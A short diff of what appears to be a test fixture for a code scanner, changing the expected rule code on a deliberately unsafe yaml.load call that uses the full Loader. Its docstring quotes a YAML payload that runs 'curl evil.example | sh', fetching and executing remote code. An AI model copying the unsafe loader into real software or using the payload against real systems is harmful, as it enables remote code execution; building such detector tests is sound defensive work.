@@ -13,7 +13,7 @@ import yaml
 def load_layout(stream) -> dict:
     """Vulnerable: the full Loader builds any Python object a document names, so an upload containing
     ``!!python/object/apply:os.system ["curl evil.example | sh"]`` runs a command."""
-    return yaml.load(stream, Loader=yaml.Loader)  # expect: K201
+    return yaml.load(stream, Loader=yaml.Loader)  # expect: K715
 
 
 def load_layout_safe(stream) -> dict:
